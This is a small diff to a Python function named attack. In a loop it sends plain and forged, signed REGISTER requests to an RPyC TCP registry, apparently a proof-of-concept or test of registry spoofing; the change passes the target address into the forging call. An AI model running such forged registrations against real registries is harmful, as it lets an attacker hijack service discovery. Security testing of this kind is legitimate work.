@@ -55,7 +55,7 @@ def attack(address: Address, stop: threading.Event, sent: list[int]) -> None:
     stock = TCPRegistryClient(address[0], address[1])
     count = 0
     while not stop.is_set():
-        for request in (("RPYC", "REGISTER", ((SERVICE_NAME,), 18998)), forged.sign("REGISTER", ((SERVICE_NAME,), 18997))):
+        for request in (("RPYC", "REGISTER", ((SERVICE_NAME,), 18998)), forged.sign("REGISTER", ((SERVICE_NAME,), 18997), address[0])):
             try:
                 exchange(address, request, 2.0)
             except (OSError, ValueError):
